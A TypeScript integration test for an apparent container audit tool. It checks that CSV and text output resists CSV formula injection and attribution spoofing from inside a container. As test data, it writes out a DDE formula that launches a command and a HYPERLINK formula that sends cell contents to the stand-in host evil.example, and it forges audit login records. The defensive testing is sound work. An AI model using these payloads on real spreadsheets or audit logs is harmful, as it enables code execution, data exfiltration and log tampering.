import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { tmpdir } from 'node:os';
import { Registry } from '@contid/core';
import { addExecveRule, deleteExecveRule, freezeSince, logMark, waitForAudit } from '../helpers/audit';
import { contid, tempStateDir, uniqueName } from '../helpers/cli';
import { isFormula, readCsvLine, semicolonCells, unguarded } from '../helpers/csv';

/** The attacker's sender (libaudit through koffi): a container keeps CAP_AUDIT_WRITE (Docker's default set has it). */
const FORGE = resolve(__dirname, '../security/fixtures/forge-record.js');
const AUDIT_USER_LOGIN = 1112;
const hex = (text: string): string => Buffer.from(text, 'utf8').toString('hex').toUpperCase();

/**
 * F6 from the attacker's position, on the real kernel and auditd: a process of a container
 * runs programs it named itself and sends itself a USER_LOGIN whose account is a formula.
 * ausearch 3.0.9 prints those cells as they are (its rows split, its cells are live formulas
 * in a spreadsheet); contid's csv keeps each in its column, never a formula, and read back
 * by an RFC 4180 reader is ausearch's text. The log is frozen so both read the same bytes.
 */
describe('csv and text output of what a container writes (real auditd, ausearch oracle)', () => {
  const state = tempStateDir('csvinj');
  const log = join(state.dir, 'audit.log');
  const rule = uniqueName('contid-csvinj');
  const name = uniqueName('csvinj');
  const work = mkdtempSync(join(tmpdir(), 'contid-csvinj-'));
  // programs the container names: a comma and a ';=' formula, and contid's attribution words
  const program = join(work, "a,b;=cmd|' -c calc'!A0;c");
  const forged = join(work, 'x container=db-prod contid=1337 orchestrator=docker');
  const account = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open me\")";
  let sessions: number[] = [];

  const search = (args: string[]): ReturnType<typeof contid> => contid(['search', '-if', log, '--no-index', ...args], { env: state.env, maxBuffer: 64 << 20 });
  const ausearch = (args: string[]): { stdout: string; stderr: string } => {
    const out = sessions.map((s) => spawnSync('ausearch', ['-if', log, '--session', String(s), ...args], { encoding: 'utf8', maxBuffer: 64 << 20, env: { ...process.env, TZ: 'UTC' } }));
    return { stdout: out.map((r) => r.stdout).join(''), stderr: out.map((r) => r.stderr).join('') };
  };

  beforeAll(async () => {
    const mark = logMark();
    addExecveRule(rule);
    try {
      const script = 'cp /bin/true "$PROGRAM" && "$PROGRAM" && cp /bin/true "$FORGED" && "$FORGED" && "$NODE" "$FORGE" "$TYPE" "$MSG" >/dev/null';
      const msg = `op=login acct=${hex(account)} exe="/usr/sbin/sshd" hostname=+h,z addr=? terminal=-x res=success`;
      const env = { ...state.env, PROGRAM: program, FORGED: forged, NODE: process.execPath, FORGE, TYPE: String(AUDIT_USER_LOGIN), MSG: msg };
      const r = contid(['exec', '--name', name, '--', 'sh', '-c', script], { env });
      expect([r.status, r.stderr]).toEqual([0, '']);
    } finally {
      deleteExecveRule(rule);
    }
    const reg = Registry.open(state.env.CONTID_STATE_DIR!, { readonly: true });
    const c = reg.find(name)!;
    sessions = reg.bindings(c.contid).map((b) => b.session!).filter((s) => s !== null);
    reg.close();
    await waitForAudit(['-m', 'USER_LOGIN', '--session', String(sessions[0])], (l) => l.length > 0);
    await waitForAudit(['-m', 'VIRT_CONTROL', '--vm-name', name], (l) => l.some((x) => x.includes('op=end')));
    freezeSince(mark, log);
  }, 120_000);
  afterAll(() => {
    state.cleanup();
    rmSync(work, { recursive: true, force: true });
  });

  it('csv: each row keeps the header\'s columns, no cell is a formula (nor after a ";"), and read back it is ausearch\'s row', () => {
    const mine = search(['-c', name, '--format', 'csv', '--extra-keys']);
    expect(mine.status).toBe(0);
    const theirs = ausearch(['--format', 'csv', '--extra-keys']);
    const [header, ...rows] = mine.stdout.slice(0, -1).split('\n');
    const ausearchRows = theirs.stdout.split('\n').filter((l) => l && !l.startsWith('NODE,'));
    expect(rows).toHaveLength(ausearchRows.length);
    const columns = readCsvLine(header).length;
    const cells = rows.map(readCsvLine);
    for (const row of cells) {
      expect(row).toHaveLength(columns);
      for (const cell of row) {
        expect([cell, isFormula(cell)]).toEqual([cell, false]);
        for (const inner of semicolonCells(cell)) expect([cell, isFormula(inner)]).toEqual([cell, false]);
      }
    }
    expect(cells.map((row) => row.map(unguarded).join(','))).toEqual(ausearchRows);
    // the attack is real: ausearch's own rows split, and its cells begin with '='
    const col = (cell: string): number => readCsvLine(header).indexOf(cell);
    const login = cells.find((row) => row[1] === 'USER_LOGIN')!;
    expect(login[col('SUBJ_PRIME')]).toBe(`'${account}`);
    const runs = cells.filter((row) => unguarded(row[col('HOW')]) === program);
    expect(runs.length).toBeGreaterThan(0);
    expect(ausearchRows.some((row) => row.split(',').includes(account.split(',')[0]))).toBe(true);
    expect(ausearchRows.some((row) => row.split(',').length > columns)).toBe(true);
  });

  it('csv: ausearch\'s "error normalizing TYPE" lines on stderr, the same ones, for the same events', () => {
    const fixture = resolve(__dirname, '../../packages/audit/test/fixtures/golden-local-nodes.log');
    const lines = (s: string): string[] => s.split('\n').filter((l) => l.startsWith('error normalizing '));
    const theirs = spawnSync('ausearch', ['-if', fixture, '--format', 'csv'], { encoding: 'utf8', maxBuffer: 64 << 20 });
    expect(lines(theirs.stderr).length).toBeGreaterThan(100);
    const mine = contid(['search', '-if', fixture, '--no-index', '--format', 'csv'], { env: state.env, maxBuffer: 64 << 20 });
    expect(mine.status).toBe(0);
    expect(lines(mine.stderr)).toEqual(lines(theirs.stderr));
  });

  // contid tail fed the same log as auditd feeds its plugin: search's rows, in its own order
  // (a live stream holds a fresh session's events until its binding may have come)
  it.each(['csv', 'text'])('tail --format %s: the lines of search (csv: its header first, the container columns), the attacker\'s words as safe', (format) => {
    const live = contid(['tail', '--source', 'plugin', '--container', name, '--format', format], { env: state.env, input: readFileSync(log), maxBuffer: 64 << 20 });
    expect(live.status).toBe(0);
    const searched = search(['-c', name, '--format', format, ...(format === 'csv' ? ['--extra-container'] : [])]);
    const lines = (text: string): string[] => text.split('\n').filter(Boolean);
    const rows = lines(live.stdout);
    if (format === 'csv') expect(rows[0]).toMatch(/^NODE,.*,CONTAINER,CONTID,ORCHESTRATOR$/);
    expect([...rows].sort()).toEqual(lines(searched.stdout).sort());
    expect(rows.some((row) => row.includes(`'${account.replace(/"/g, '""')}`) || row.includes('x container\\075db-prod'))).toBe(true);
  });

  it('text: a program named "x container=db-prod contid=1337 orchestrator=docker" adds no attribution', () => {
    const mine = search(['-c', name, '--format', 'text']);
    expect(mine.status).toBe(0);
    const line = mine.stdout.split('\n').find((l) => l.includes('x container\\075db-prod'));
    expect(line).toBeDefined();
    expect(line!.match(/ container=/g)).toHaveLength(1);
    expect(line).toMatch(new RegExp(` container=${name} contid=\\d+ orchestrator=contid$`));
  });
});
